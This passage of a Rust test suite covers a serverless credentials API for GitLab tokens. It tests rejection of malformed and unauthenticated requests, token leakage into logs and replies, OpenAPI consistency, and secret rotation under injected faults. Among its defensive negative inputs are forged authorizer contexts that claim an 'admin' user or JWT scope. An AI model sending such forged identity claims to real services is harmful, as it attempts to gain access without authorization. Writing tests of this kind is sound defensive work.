            );
            let (raw, query) = path.split_once('?').unwrap_or((&path, ""));
            let mut req = base.with_raw_http_path(raw);
            if !query.is_empty() {
                req = req.with_query_string_parameters(
                    url::form_urlencoded::parse(query.as_bytes())
                        .into_owned()
                        .collect::<std::collections::HashMap<String, String>>(),
                );
            }
            requests.push(req);
        }
    }
    // Unsigned and oddly signed variants of valid requests.
    for name in ["create", "update", "info", "list", "delete"] {
        for authorizer in [
            Value::Null,
            json!({}),
            json!({"iam": {}}),
            json!({"iam": {"userArn": "", "callerId": "", "accessKey": ""}}),
            json!({"lambda": {"user": "admin"}}),
            json!({"jwt": {"claims": {"sub": "admin"}, "scopes": ["admin"]}}),
        ] {
            let mut e = event(name);
            if authorizer.is_null() {
                e["requestContext"]
                    .as_object_mut()
                    .unwrap()
                    .remove("authorizer");
            } else {
                e["requestContext"]["authorizer"] = authorizer;
            }
            e["rawPath"] = e["rawPath"]
                .as_str()
                .unwrap()
                .replace("acme-prod", CONN)
                .into();
            requests.push(into_request(&e));
        }
    }

    let total = requests.len();
    assert!(total >= 1_000, "only {total} hostile requests");
    let mut by_status: BTreeMap<u16, usize> = BTreeMap::new();
    for req in requests {
        let method = req.method().clone();
        let path = req.raw_http_path().to_owned();
        let reply = handler(&env.api, req).await.expect("never an error");
        let status = reply.status().as_u16();
        *by_status.entry(status).or_default() += 1;
        let shown: String = path.chars().take(120).collect();
        assert!((400..500).contains(&status), "{method} {shown}: {status}");
        let body: Value = serde_json::from_slice(reply.body().as_ref())
            .unwrap_or_else(|_| panic!("{method} {shown}: reply is not JSON"));
        assert_eq!(body["ok"], false, "{method} {shown}");
        assert!(body["error"].is_string() && body["message"].is_string());
    }
    assert_eq!(stored(&env).await, before, "no stored data changed");
    // The mix reached every layer: routing, auth, parsing, field checks and verification.
    for status in [400, 401, 404, 405, 413, 415] {
        assert!(
            by_status.contains_key(&status),
            "{status} never seen: {by_status:?}"
        );
    }
    println!("{total} hostile requests: {by_status:?}");
}

// ---------------------------------------------------------------------------------------------------------------
// token leaks

/// A log sink for a test's own subscriber.
#[derive(Clone, Default)]
pub(crate) struct Captured(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Every log line of this test process, once per log level the template allows, each through the filter the
/// functions build for that level (`shared::telemetry`), and once unfiltered (TRACE and up), through a global
/// subscriber installed once. A scoped subscriber (`set_default`) misses lines when other test threads race it on
/// callsite interest.
pub(crate) struct CapturedLogs {
    pub(crate) by_level: Vec<(String, Captured)>,
    pub(crate) unfiltered: Captured,
    /// At INFO, as JSON lines with flattened fields, the way the functions log in Lambda.
    json: Captured,
}

pub(crate) fn captured_logs() -> &'static CapturedLogs {
    use tracing_subscriber::Layer;
    use tracing_subscriber::layer::SubscriberExt;

    static LOGS: std::sync::OnceLock<CapturedLogs> = std::sync::OnceLock::new();
    LOGS.get_or_init(|| {
        let unfiltered = Captured::default();
        let sink = unfiltered.clone();
        let mut layers = vec![
            tracing_subscriber::fmt::layer()
                .with_ansi(false)
                .with_writer(move || sink.clone())
                .boxed(),
        ];
        let mut by_level = Vec::new();
        for word in crate::template::allowed_log_levels() {
            let level = shared::telemetry::level(|name| {
                (name == "AWS_LAMBDA_LOG_LEVEL").then(|| word.clone())
            })
            .expect("the template allows only levels the functions read");
            let logs = Captured::default();
            let sink = logs.clone();
            layers.push(
                tracing_subscriber::fmt::layer()
                    .with_ansi(false)
                    .with_writer(move || sink.clone())
                    .with_filter(shared::telemetry::filter(level))
                    .boxed(),
            );
            by_level.push((word, logs));
        }
        let json = Captured::default();
        let sink = json.clone();
        layers.push(
            tracing_subscriber::fmt::layer()
                .json()
                .flatten_event(true)
                .with_target(false)
                .with_writer(move || sink.clone())
                .with_filter(shared::telemetry::filter(
                    tracing_subscriber::filter::LevelFilter::INFO,
                ))
                .boxed(),
        );
        tracing::subscriber::set_global_default(tracing_subscriber::registry().with(layers))
            .expect("no other global subscriber in the test binary");
        CapturedLogs {
            by_level,
            unfiltered,
            json,
        }
    })
}

impl Captured {
    pub(crate) fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

#[tokio::test]
async fn no_reply_log_line_or_stored_item_contains_a_token() {
    let logs = captured_logs();
    let env = env().await;
    let mut replies: Vec<String> = Vec::new();
    let mut run = async |req: Request| {
        // What lambda_runtime logs of every invocation, at its own target and level (the handler runs here
        // without the runtime): the raw event, body and token included.
        tracing::trace!(
            target: "lambda_runtime::layers::api_response",
            body = ?req.body(),
            "raw JSON event received from Lambda"
        );
        let reply = handler(&env.api, req).await.unwrap();
        replies.push(format!("{:?} {:?}", reply.headers(), reply.body()));
        serde_json::from_slice::<Value>(reply.body().as_ref()).unwrap()
    };
    let created = run(post("credentials.create", &create_body(&env, GOOD))).await;
    let id = created["credential"]["id"].as_str().unwrap().to_owned();
    let mut hook_secrets = vec![created["push_hook"]["secret"].as_str().unwrap().to_owned()];
    let rotated = run(post("hooks.rotate", &json!({}))).await;
    hook_secrets.push(rotated["push_hook"]["secret"].as_str().unwrap().to_owned());
    for token in ALL_TOKENS {
        run(post("credentials.create", &create_body(&env, token))).await;
        let mut with_error = create_body(&env, token);
        with_error["settings"]["requests_per_minute"] = json!(*token);
        run(post("credentials.create", &with_error)).await;
        with_error["expiration_date"] = json!(*token);
        run(post("credentials.create", &with_error)).await;
        run(post(
            "credentials.update",
            &json!({"id": id, "secrets": {"api_token": token}, "label": "rotating"}),
        ))
        .await;
        run(post(
            "credentials.update",
            &json!({"id": id, "secrets": {"api_token": GOOD}}),
        ))
        .await;
        let form = format!("secrets%5Bapi_token%5D={token}&{token}=1");
        run(request(
            "POST",
            &format!("/connections/{CONN}/credentials.create"),
            Some("application/x-www-form-urlencoded"),
            Some(form),
        ))
        .await;
    }
    env.sim.fail_next("*", 6, Fault::ServerError(502));
    run(post("credentials.create", &create_body(&env, ROTATED))).await;
    run(post(
        "credentials.update",
        &json!({"id": id, "secrets": {"api_token": ROTATED}}),
    ))
    .await;
    run(get(&format!("credentials.info/{id}"))).await;
    run(get("credentials.list?include_deleted=true")).await;
    run(post("credentials.delete", &json!({"id": id}))).await;
    run(get(&format!("credentials.info/{id}"))).await;

    // Without the functions' filter, the runtime's line shows the tokens, and the SDK and HTTP crates log at
    // TRACE: what the filter must hold back.
    let unfiltered = logs.unfiltered.text();
    assert!(unfiltered.contains("raw JSON event received from Lambda"));
    assert!(ALL_TOKENS.iter().any(|token| unfiltered.contains(token)));
    assert!(
        unfiltered.lines().count() > 50,
        "trace-level lines of the SDK and HTTP clients too"
    );
    let table = format!("{:?}", table_items(&env).await);
    assert!(table.contains(&id), "the scan sees the credential");
    for secret in &hook_secrets {
        assert!(
            !table.contains(secret),
            "the table holds a push hook secret"
        );
    }
    let replies = replies.join("\n");
    assert!(replies.contains(&SecretString::new(GOOD).fingerprint()));
    for token in ALL_TOKENS {
        assert!(!replies.contains(token), "a reply shows {token}");
        assert!(!table.contains(token), "the table holds {token}");
    }
    assert!(logs.by_level.len() >= 3, "{:?}", logs.by_level.len());
    for (level, captured) in &logs.by_level {
        let text = captured.text();
        let info = matches!(level.as_str(), "INFO" | "DEBUG");
        assert_eq!(
            text.contains("request handled"),
            info,
            "{level}: the handler's INFO lines are there exactly when the level admits them"
        );
        assert!(!text.contains("raw JSON event"), "{level} logs raw events");
        for token in ALL_TOKENS {
            assert!(!text.contains(token), "a log line at {level} shows {token}");
        }
        for secret in &hook_secrets {
            assert!(
                !text.contains(secret),
                "a log line at {level} shows a push hook secret"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------------------------
// the sample events

#[tokio::test]
async fn every_sample_event_drives_its_route() {
    let env = env().await;
    let mut create_event = event("create");
    let mut body: Value = serde_json::from_str(create_event["body"].as_str().unwrap()).unwrap();
    body["settings"]["base_url"] = env.sim.base_url().into();
    body["secrets"]["api_token"] = GOOD.into();
    create_event["body"] = body.to_string().into();
    let (status, reply) = send(&env.api, into_request(&create_event)).await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(reply["credential"]["label"], "GitLab.com production");
    assert_eq!(reply["credential"]["expiration_date"], "2027-06-30");
    let id = reply["credential"]["id"].as_str().unwrap().to_owned();
    let sample_id = "cred_0123456789abcdefghjkmnpqrs";

    let mut update = event("update");
    let mut body: Value = serde_json::from_str(update["body"].as_str().unwrap()).unwrap();
    body["id"] = id.clone().into();
    body["secrets"]["api_token"] = ROTATED.into();
    update["body"] = body.to_string().into();
    let (status, reply) = send(&env.api, into_request(&update)).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(
        reply["credential"]["label"],
        "GitLab.com production (rotated)"
    );

    let info = event("info").to_string().replace(sample_id, &id);
    let (status, reply) = send(
        &env.api,
        into_request(&serde_json::from_str(&info).unwrap()),
    )
    .await;
    assert_eq!(
        (status, reply["credential"]["id"].as_str()),
        (200, Some(id.as_str()))
    );

    let (status, reply) = send(&env.api, into_request(&event("list"))).await;
    assert_eq!(status, 200);
    assert_eq!(reply["credentials"].as_array().unwrap().len(), 1);

    let (status, reply) = send(&env.api, into_request(&event("hooks-rotate"))).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["push_hook"]["url"], HOOK_URL);
    assert_eq!(
        hook_secret(&env).await,
        Some((
            reply["push_hook"]["secret"].as_str().map(str::to_owned),
            false
        ))
    );

    let delete = event("delete").to_string().replace(sample_id, &id);
    let (status, reply) = send(
        &env.api,
        into_request(&serde_json::from_str(&delete).unwrap()),
    )
    .await;
    assert_eq!(status, 200);
    assert!(reply["credential"]["deleted_at"].is_string());

    // As shipped (sample ids), the events reach the handler and name a credential that does not exist.
    for name in ["info", "update", "delete"] {
        let mut e = event(name);
        if name == "update" {
            let mut body: Value = serde_json::from_str(e["body"].as_str().unwrap()).unwrap();
            body.as_object_mut().unwrap().remove("secrets");
            e["body"] = body.to_string().into();
        }
        let (status, reply) = send(&env.api, into_request(&e)).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (404, Some("credential_not_found")),
            "{name}"
        );
    }
}

// ---------------------------------------------------------------------------------------------------------------
// the OpenAPI description

#[test]
fn openapi_describes_exactly_the_routes_and_error_codes_the_handler_has() {
    use serde_yaml_ng::Value as Yaml;
    use shared::entrypoints::credentials_api::{ApiError, Route};

    let path = format!("{}/../openapi.yaml", env!("CARGO_MANIFEST_DIR"));
    let doc: Yaml = serde_yaml_ng::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert!(doc["openapi"].as_str().unwrap().starts_with("3."));
    let paths = doc["paths"].as_mapping().unwrap();

    let mut expected = std::collections::BTreeSet::new();
    for (route, name, method, takes_id) in Route::ALL {
        let key = if takes_id {
            format!("/connections/{{connection_id}}/{name}/{{id}}")
        } else {
            format!("/connections/{{connection_id}}/{name}")
        };
        let item = paths
            .get(Yaml::from(key.as_str()))
            .unwrap_or_else(|| panic!("openapi.yaml lacks {key}"));
        let operations: Vec<&str> = item
            .as_mapping()
            .unwrap()
            .keys()
            .filter_map(Yaml::as_str)
            .collect();
        assert_eq!(operations, vec![method.to_ascii_lowercase()], "{key}");
        let operation = &item[method.to_ascii_lowercase().as_str()];
        assert_eq!(operation["operationId"].as_str(), Some(name));
        let success = if route == Route::Create { "201" } else { "200" };
        assert!(
            operation["responses"].get(success).is_some(),
            "{name} documents {success}"
        );
        for status in ["401", "404", "405", "503"] {
            assert!(
                operation["responses"].get(status).is_some(),
                "{name} documents {status}"
            );
        }
        expected.insert(key);
    }
    let documented: std::collections::BTreeSet<String> = paths
        .keys()
        .filter_map(|k| k.as_str().map(str::to_owned))
        .collect();
    // The push hook's public route is on the same API, served by its own function with its own codes.
    let hook = "/connections/{connection_id}/hooks/gitlab";
    let operation = &paths[&Yaml::from(hook)]["post"];
    assert_eq!(operation["operationId"].as_str(), Some("push_hook"));
    assert_eq!(operation["security"], Yaml::Sequence(Vec::new()), "public");
    for status in ["202", "400", "401", "404", "405", "413", "503"] {
        assert!(
            operation["responses"].get(status).is_some(),
            "push_hook documents {status}"
        );
    }
    let hook_codes: Vec<&str> =
        doc["components"]["schemas"]["HookError"]["properties"]["error"]["enum"]
            .as_sequence()
            .unwrap()
            .iter()
            .filter_map(Yaml::as_str)
            .collect();
    assert_eq!(hook_codes, shared::entrypoints::push_hook::ERROR_CODES);
    expected.insert(hook.to_owned());
    assert_eq!(documented, expected, "no undocumented or stale paths");

    let codes: Vec<&str> = doc["components"]["schemas"]["Error"]["properties"]["error"]["enum"]
        .as_sequence()
        .unwrap()
        .iter()
        .filter_map(Yaml::as_str)
        .collect();
    let handler_codes: Vec<&str> = ApiError::ALL_CODES.iter().map(|(code, _)| *code).collect();
    assert_eq!(codes, handler_codes);
    for (code, status) in ApiError::ALL_CODES {
        let status = status.to_string();
        assert!(
            paths
                .values()
                .flat_map(|item| item.as_mapping().unwrap().values())
                .any(|operation| operation["responses"].get(status.as_str()).is_some()),
            "no operation documents {status} ({code})"
        );
    }
}

// ---------------------------------------------------------------------------------------------------------------
// rotation through secret versions, create and update under failures, repair of a missing secret

mod rotation {
    use std::sync::atomic::AtomicBool;

    use shared::credentials::service::{CreateInput, Patch, UpdateInput};
    use shared::credentials::{CredentialStatus, SecretVault, VaultError};

    use super::*;

    /// Where a planned failure strikes: the first call of `operation` fails, before it reaches AWS or after it
    /// landed; with `crash`, every later call fails too (the process died there, so no undo runs).
    struct Plan {
        operation: &'static str,
        after_landing: bool,
        crash: bool,
        struck: AtomicBool,
    }

    impl Plan {
        fn new(operation: &'static str, after_landing: bool, crash: bool) -> Arc<Plan> {
            Arc::new(Plan {
                operation,
                after_landing,
                crash,
                struck: AtomicBool::new(false),
            })
        }

        /// Runs `call` as the plan says: `None` means "fail now".
        async fn around<T, E, F: std::future::Future<Output = Result<T, E>>>(
            &self,
            operation: &'static str,
            call: F,
        ) -> Option<Result<T, E>> {
            if self.crash && self.struck.load(Ordering::SeqCst) {
                return None;
            }
            if operation != self.operation || self.struck.swap(true, Ordering::SeqCst) {
                return Some(call.await);
            }
            if self.after_landing {
                let _ = call.await;
            }
            None
        }
    }

    struct FaultyStore(DynamoCredentialStore, Arc<Plan>);

    fn store_down(operation: &'static str) -> StoreError {
        StoreError::Unavailable {
            operation,
            detail: "injected".into(),
        }
    }

    impl CredentialStore for FaultyStore {
        async fn bind_connection(
            &self,
            c: &ConnectionId,
            base_url: &str,
            at: &str,
        ) -> Result<Option<String>, StoreError> {
            let call = self.0.bind_connection(c, base_url, at);
            let answer = self.1.around("bind_connection", call).await;
            answer.unwrap_or_else(|| Err(store_down("bind_connection")))
        }
        async fn connection_exists(&self, c: &ConnectionId) -> Result<bool, StoreError> {
            let answer = self
                .1
                .around("connection_exists", self.0.connection_exists(c));
            answer
                .await
                .unwrap_or_else(|| Err(store_down("connection_exists")))
        }
        async fn insert(&self, r: &CredentialRecord) -> Result<(), StoreError> {
            let answer = self.1.around("insert", self.0.insert(r)).await;
            answer.unwrap_or_else(|| Err(store_down("insert")))
        }
        async fn replace(&self, r: &CredentialRecord, expected: u64) -> Result<(), StoreError> {
            let answer = self.1.around("replace", self.0.replace(r, expected)).await;
            answer.unwrap_or_else(|| Err(store_down("replace")))
        }
        async fn get(
            &self,
            c: &ConnectionId,
            id: &CredentialId,
        ) -> Result<Option<CredentialRecord>, StoreError> {
            let answer = self.1.around("get", self.0.get(c, id)).await;
            answer.unwrap_or_else(|| Err(store_down("get")))
        }
        async fn list(&self, c: &ConnectionId) -> Result<Vec<CredentialRecord>, StoreError> {
            let answer = self.1.around("list", self.0.list(c)).await;
            answer.unwrap_or_else(|| Err(store_down("list")))
        }
    }

    struct FaultyVault(SecretsManagerVault, Arc<Plan>);

    fn vault_down(operation: &'static str) -> VaultError {
        VaultError::Unavailable {
            operation,
            detail: "injected".into(),
        }
    }

    impl SecretVault for FaultyVault {
        async fn create(
            &self,
            name: &str,
            value: &SecretString,
            version_id: &str,
            tags: &[(&str, &str)],
        ) -> Result<(), VaultError> {
            let call = self.0.create(name, value, version_id, tags);
            let answer = self.1.around("vault.create", call).await;
            answer.unwrap_or_else(|| Err(vault_down("vault.create")))
        }
        async fn read(
            &self,
            name: &str,
            version_id: Option<&str>,
        ) -> Result<SecretString, VaultError> {
            let answer = self.1.around("vault.read", self.0.read(name, version_id));
            answer
                .await
                .unwrap_or_else(|| Err(vault_down("vault.read")))
        }
        async fn stage(
            &self,
            name: &str,
            value: &SecretString,
            version_id: &str,
        ) -> Result<(), VaultError> {
            let call = self.0.stage(name, value, version_id);
            let answer = self.1.around("vault.stage", call).await;
            answer.unwrap_or_else(|| Err(vault_down("vault.stage")))
        }
        async fn promote(&self, name: &str, version_id: &str) -> Result<(), VaultError> {
            let call = self.0.promote(name, version_id);
            let answer = self.1.around("vault.promote", call).await;
            answer.unwrap_or_else(|| Err(vault_down("vault.promote")))
        }
        async fn restore(&self, name: &str) -> Result<(), VaultError> {
            let answer = self.1.around("vault.restore", self.0.restore(name)).await;
            answer.unwrap_or_else(|| Err(vault_down("vault.restore")))
        }
        async fn schedule_deletion(&self, name: &str, days: i64) -> Result<(), VaultError> {
            let call = self.0.schedule_deletion(name, days);
            let answer = self.1.around("vault.schedule_deletion", call).await;
            answer.unwrap_or_else(|| Err(vault_down("vault.schedule_deletion")))
        }
        async fn delete_now(&self, name: &str) -> Result<(), VaultError> {
            let answer = self
                .1
                .around("vault.delete_now", self.0.delete_now(name))
                .await;
            answer.unwrap_or_else(|| Err(vault_down("vault.delete_now")))
        }
    }

    type Domain<S, V> = Credentials<S, V, GitLabVerifier>;

    fn domain(env: &Env) -> Domain<DynamoCredentialStore, SecretsManagerVault> {
        Credentials {
            store: DynamoCredentialStore::new(
                env.aws.dynamodb.clone(),
                env.aws.table("StateTable"),
            ),
            vault: SecretsManagerVault::new(env.aws.secrets.clone()),
            verifier: verifier(NetworkPolicy::AllowPrivate),
            secret_name_prefix: env.prefix.clone(),
            default_base_url: env.sim.base_url(),
        }
    }

    fn faulty(env: &Env, plan: &Arc<Plan>) -> Domain<FaultyStore, FaultyVault> {
        let healthy = domain(env);
        Credentials {
            store: FaultyStore(healthy.store, plan.clone()),
            vault: FaultyVault(healthy.vault, plan.clone()),
            verifier: healthy.verifier,
            secret_name_prefix: healthy.secret_name_prefix,
            default_base_url: healthy.default_base_url,
        }
    }

    fn create_input(token: &str) -> CreateInput {
        CreateInput {
            label: Some("Production".into()),
            base_url: None,
            ca_bundle: None,
            requests_per_minute: None,
            include: Vec::new(),
            exclude: Vec::new(),
            api_token: SecretString::new(token),
            expiration_date: None,
        }
    }

    fn rotate(id: &CredentialId, token: Option<&str>) -> UpdateInput {
        UpdateInput {
            id: id.clone(),
            label: Patch::Keep,
            base_url: None,
            ca_bundle: Patch::Keep,
            requests_per_minute: Patch::Keep,
            include: Patch::Keep,
            exclude: Patch::Keep,
            api_token: token.map(SecretString::new),
            expiration_date: Patch::Keep,
        }
    }

    fn conn() -> ConnectionId {
        ConnectionId::parse(CONN).unwrap()
    }

    /// This test's token secrets that are not scheduled for deletion, by the credential id they are tagged with.
    async fn live_secrets(env: &Env) -> BTreeMap<String, String> {
        let mut live = BTreeMap::new();
        let mut next = None;
        loop {
            let output = env
                .aws
                .secrets
                .list_secrets()
                .set_next_token(next)
                .send()
                .await
                .expect("list secrets");
            for entry in output.secret_list() {
                let name = entry.name().unwrap_or_default();
                if !name.starts_with(&env.prefix)
                    || entry.deleted_date().is_some()
                    || name.ends_with(&format!("/{HOOK_SECRET_SUFFIX}"))
                {
                    continue;
                }
                let tagged = entry
                    .tags()
                    .iter()
                    .find(|t| t.key() == Some("credential_id"))
                    .and_then(|t| t.value())
                    .expect("every secret is tagged with its credential");
                live.insert(tagged.to_owned(), name.to_owned());
            }
            next = output.next_token;
            if next.is_none() {
                break;
            }
        }
        live
    }

    /// The fingerprint of the token readers (`connect.rs`: the version the record names) get for a record.
    async fn read_for(env: &Env, record: &CredentialRecord) -> Result<String, VaultError> {
        SecretsManagerVault::new(env.aws.secrets.clone())
            .read(&record.secret_name, record.secret_version_id.as_deref())
            .await
            .map(|token| token.fingerprint())
    }

    /// The fingerprint of the secret's `AWSCURRENT` value.
    async fn current_of(env: &Env, record: &CredentialRecord) -> String {
        SecretsManagerVault::new(env.aws.secrets.clone())
            .read(&record.secret_name, None)
            .await
            .expect("current value")
            .fingerprint()
    }

    /// No live token without a record a caller sees (not deleted); an active record's token is the one it names;
    /// a provisioning one is never synced. Returns the records a caller sees.
    async fn assert_consistent(env: &Env, case: &str) -> Vec<CredentialRecord> {
        let records = domain(env).store.list(&conn()).await.unwrap();
        let visible: Vec<_> = records
            .into_iter()
            .filter(|r| r.deleted_at.is_none())
            .collect();
        for credential in live_secrets(env).await.keys() {
            assert!(
                visible
                    .iter()
                    .any(|r| r.credential_id.as_str() == credential),
                "{case}: orphan secret of {credential}"
            );
        }
        let today = time::OffsetDateTime::now_utc().date();
        for record in &visible {
            match record.status {
                CredentialStatus::Active => assert_eq!(
                    read_for(env, record).await.as_deref(),
                    Ok(record.token_fingerprint.as_str()),
                    "{case}: record and token disagree"
                ),
                CredentialStatus::Provisioning => {
                    assert!(!record.is_live(today), "{case}")
                }
                other => panic!("{case}: unexpected status {other:?}"),
            }
        }
        visible
    }

    /// Every credential a caller sees can be brought to an active, agreeing pair by an update with a token.
    async fn assert_repairable(env: &Env, case: &str) {
        let healthy = domain(env);
        for record in assert_consistent(env, case).await {
            let repaired = healthy
                .update(&conn(), rotate(&record.credential_id, Some(ROTATED)))
                .await
                .unwrap_or_else(|e| panic!("{case}: repair failed: {e}"));
            assert_eq!(repaired.status, CredentialStatus::Active, "{case}");
            assert_eq!(
                read_for(env, &repaired).await.as_deref(),
                Ok(SecretString::new(ROTATED).fingerprint().as_str()),
                "{case}"
            );
            assert_eq!(
                current_of(env, &repaired).await,
                repaired.token_fingerprint,
                "{case}"
            );
        }
        assert_consistent(env, case).await;
    }

    #[tokio::test]
    async fn the_vault_stages_promotes_and_reads_by_version_and_tells_a_scheduled_deletion() {
        let env = env().await;
        let vault = SecretsManagerVault::new(env.aws.secrets.clone());
        let name = format!("{}probe", env.prefix);
        let (v1, v2) = ("1".repeat(32), "2".repeat(32));
        vault
            .create(
                &name,
                &SecretString::new(GOOD),
                &v1,
                &[("credential_id", "probe")],
            )
            .await
            .unwrap();
        vault
            .stage(&name, &SecretString::new(ROTATED), &v2)
            .await
            .unwrap();
        let read = async |version: Option<&str>| {
            vault
                .read(&name, version)
                .await
                .unwrap()
                .expose()
                .to_owned()
        };
        assert_eq!(read(None).await, GOOD, "staging leaves the current version");
        assert_eq!(read(Some(&v2)).await, ROTATED);
        vault.promote(&name, &v2).await.unwrap();
        vault.promote(&name, &v2).await.unwrap();
        assert_eq!(read(None).await, ROTATED);
        assert_eq!(
            read(Some(&v1)).await,
            GOOD,
            "the old version stays readable"
        );
        assert!(matches!(
            vault.read(&name, Some(&"3".repeat(32))).await,
            Err(VaultError::NotFound { .. })
        ));

        vault.schedule_deletion(&name, 7).await.unwrap();
        assert!(matches!(
            vault.read(&name, Some(&v2)).await,
            Err(VaultError::ScheduledForDeletion { .. })
        ));
        assert!(matches!(
            vault.promote(&name, &v1).await,
            Err(VaultError::ScheduledForDeletion { .. })
        ));
        vault.restore(&name).await.unwrap();
        assert_eq!(read(Some(&v2)).await, ROTATED);
        vault.delete_now(&name).await.unwrap();
        assert!(matches!(
            vault.stage(&name, &SecretString::new(GOOD), &v1).await,
            Err(VaultError::NotFound { .. })
        ));
    }

    #[tokio::test]
    async fn concurrent_rotations_leave_the_record_and_the_token_read_for_it_in_agreement() {
        let env = env().await;
        let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
        let rotation = |token: &str| {
            post(
                "credentials.update",
                &json!({"id": id, "secrets": {"api_token": token}}),
            )
        };
        let store = domain(&env).store;
        let cid = CredentialId::parse(&id).unwrap();
        let mut winners = BTreeMap::<&str, u32>::new();
        for round in 0..6 {
            let (a, b) = if round % 2 == 0 {
                (GOOD, ROTATED)
            } else {
                (ROTATED, GOOD)
            };
            let ((status_a, reply_a), (status_b, reply_b)) =
                tokio::join!(send(&env.api, rotation(a)), send(&env.api, rotation(b)));
            for (status, reply, token) in [(status_a, &reply_a, a), (status_b, &reply_b, b)] {
                match status {
                    200 => *winners.entry(token).or_default() += 1,
                    409 => assert_eq!(reply["error"], "conflict", "{reply}"),
                    other => panic!("round {round}: {other} {reply}"),
                }
            }
            let record = store.get(&conn(), &cid).await.unwrap().unwrap();
            assert_eq!(
                read_for(&env, &record).await.as_deref(),
                Ok(record.token_fingerprint.as_str()),
                "round {round}: the token readers get is the one the record describes"
            );
            assert_eq!(
                current_of(&env, &record).await,
                record.token_fingerprint,
                "round {round}: AWSCURRENT follows the record"
            );
        }
        assert!(winners.values().sum::<u32>() >= 6, "{winners:?}");
    }

    #[tokio::test]
    async fn a_failure_between_any_two_steps_of_create_leaves_no_orphan_and_no_mismatch() {
        let env = env().await;
        let steps = [
            "bind_connection",
            "insert",
            "vault.create",
            "replace",
            "get",
        ];
        for operation in steps {
            for after_landing in [false, true] {
                for crash in [false, true] {
                    let case =
                        format!("create, {operation}, landed {after_landing}, crash {crash}");
                    let plan = Plan::new(operation, after_landing, crash);
                    let before = assert_consistent(&env, &case).await.len();
                    let result = faulty(&env, &plan)
                        .create(&conn(), create_input(GOOD))
                        .await;
                    let after = assert_consistent(&env, &case).await.len();
                    match &result {
                        Ok(record) => {
                            assert_eq!(record.status, CredentialStatus::Active, "{case}");
                            assert_eq!(after, before + 1, "{case}");
                        }
                        // Undone, unless the process "died" after the record was written.
                        Err(_) if !crash => assert_eq!(after, before, "{case}"),
                        Err(_) => assert!(after <= before + 1, "{case}"),
                    }
                    if !crash && after_landing && matches!(operation, "insert" | "replace") {
                        assert!(
                            result.is_ok(),
                            "{case}: a write whose answer was lost landed"
                        );
                    }
                }
            }
        }
        assert_repairable(&env, "after every create").await;
        // Bounded leftovers: the failures left at most one visible credential per crashed step.
        let visible = assert_consistent(&env, "end").await;
        assert!(
            !visible.is_empty() && visible.len() <= steps.len() * 4,
            "{}",
            visible.len()
        );
    }

    #[tokio::test]
    async fn a_failure_between_any_two_steps_of_a_rotation_leaves_no_mismatch() {
        let env = env().await;
        let id = CredentialId::parse(create(&env, GOOD).await["id"].as_str().unwrap()).unwrap();
        let mut token = GOOD;
        for operation in [
            "get",
            "bind_connection",
            "vault.stage",
            "replace",
            "vault.promote",
        ] {
            for after_landing in [false, true] {
                for crash in [false, true] {
                    let case =
                        format!("update, {operation}, landed {after_landing}, crash {crash}");
                    token = if token == GOOD { ROTATED } else { GOOD };
                    let plan = Plan::new(operation, after_landing, crash);
                    let before = domain(&env).store.get(&conn(), &id).await.unwrap().unwrap();
                    let result = faulty(&env, &plan)
                        .update(&conn(), rotate(&id, Some(token)))
                        .await;
                    let after = domain(&env).store.get(&conn(), &id).await.unwrap().unwrap();
                    match &result {
                        Ok(updated) => {
                            assert_eq!(after.version, updated.version, "{case}");
                            assert_eq!(
                                after.token_fingerprint,
                                SecretString::new(token).fingerprint(),
                                "{case}"
                            );
                        }
                        // Either nothing changed, or the write landed and only its answer was lost.
                        Err(_) => assert!(
                            after.version == before.version
                                || (after.version == before.version + 1
                                    && after.token_fingerprint
                                        == SecretString::new(token).fingerprint()),
                            "{case}"
                        ),
                    }
                    assert_eq!(assert_consistent(&env, &case).await.len(), 1, "{case}");
                    assert_eq!(live_secrets(&env).await.len(), 1, "{case}");
                }
            }
        }
        // A promotion cut short is caught up by the next update, with or without a token.
        let plan = Plan::new("vault.promote", false, true);
        let rotated = faulty(&env, &plan)
            .update(&conn(), rotate(&id, Some(ROTATED)))
            .await
            .unwrap();
        assert_eq!(
            read_for(&env, &rotated).await.as_deref(),
            Ok(SecretString::new(ROTATED).fingerprint().as_str())
        );
        let relabelled = domain(&env)
            .update(&conn(), rotate(&id, None))
            .await
            .unwrap();
        assert_eq!(
            current_of(&env, &relabelled).await,
            relabelled.token_fingerprint
        );
        assert_repairable(&env, "after every rotation").await;
    }

    #[tokio::test]
    async fn an_update_with_a_token_repairs_a_credential_whose_secret_is_gone() {
        let env = env().await;
        let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
        let secret_name = format!("{}{CONN}/{id}", env.prefix);
        let cid = CredentialId::parse(&id).unwrap();
        let relabel = json!({"id": id, "label": "Renamed"});
        let repair = json!({"id": id, "secrets": {"api_token": ROTATED}});

        for scheduled in [false, true] {
            let deletion = env.aws.secrets.delete_secret().secret_id(&secret_name);
            let deletion = if scheduled {
                deletion.recovery_window_in_days(7)
            } else {
                deletion.force_delete_without_recovery(true)
            };
            deletion.send().await.expect("out-of-band deletion");

            let (status, reply) = send(&env.api, post("credentials.update", &relabel)).await;
            assert_eq!(
                (status, reply["error"].as_str()),
                (409, Some("secret_missing")),
                "scheduled {scheduled}: {reply}"
            );
            assert!(reply["message"].as_str().unwrap().contains("api_token"));

            let (status, reply) = send(&env.api, post("credentials.update", &repair)).await;
            assert_eq!(status, 200, "scheduled {scheduled}: {reply}");
            let record = domain(&env)
                .store
                .get(&conn(), &cid)
                .await
                .unwrap()
                .unwrap();
            assert_eq!(
                read_for(&env, &record).await.as_deref(),
                Ok(SecretString::new(ROTATED).fingerprint().as_str()),
                "scheduled {scheduled}"
            );
            assert_eq!(
                token_secrets(&env).await,
                BTreeMap::from([(secret_name.clone(), (Some(ROTATED.to_owned()), false))]),
                "scheduled {scheduled}: the secret is back and current"
            );
